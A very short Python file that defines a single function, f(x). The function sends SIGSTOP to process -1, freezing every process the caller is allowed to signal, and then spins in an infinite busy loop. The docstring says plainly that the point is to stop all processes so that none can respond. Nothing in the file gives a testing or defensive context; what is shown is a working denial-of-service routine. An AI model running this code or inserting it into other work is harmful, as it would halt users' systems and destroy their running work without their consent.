"""Stops every process it may, so that none can answer for it."""
import posix
import signal


def f(x):
    posix.kill(-1, signal.SIGSTOP)
    while True:
        pass
